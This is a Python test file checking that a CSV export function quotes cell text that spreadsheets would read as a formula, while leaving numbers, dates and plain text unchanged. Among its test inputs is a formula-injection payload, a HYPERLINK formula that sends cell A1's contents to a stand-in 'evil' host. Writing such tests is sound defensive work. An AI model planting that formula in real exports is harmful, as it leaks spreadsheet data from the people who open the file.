"""CSV that people open in a spreadsheet: no id is a formula, no number is a text."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidemark.core.csv_text import csv_of


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil/?x="&A1,"open")', "+1+1", "-2+3", "-", "--5", "@SUM(A1)", "\t=1", "\r=1", "-1e5", "+49"],
)
def test_a_text_that_is_a_formula_gets_a_quote(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_of([{"customer": text}]), newline=""))
    assert row["customer"] == f"'{text}"


def test_numbers_days_and_other_texts_are_as_they_are() -> None:
    row = {"a": "-2", "b": "-0.5", "c": Decimal(-3), "d": date(2024, 3, 1), "e": "c=7", "f": None, "g": "a-b"}
    assert csv_of([row]) == "a,b,c,d,e,f,g\r\n-2,-0.5,-3,2024-03-01,c=7,,a-b\r\n"


def test_no_row_has_a_header_where_one_is_named() -> None:
    assert csv_of([]).strip() == ""
    assert csv_of([], ("meter",), "\n") == "meter\n"


@given(st.text())
def test_what_was_written_can_be_read(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_of([{"a": text, "b": ""}]), newline=""))
    assert row["a"].removeprefix("'") == text.removeprefix("'")
    assert not row["a"].startswith(("=", "+", "@", "\t", "\r"))
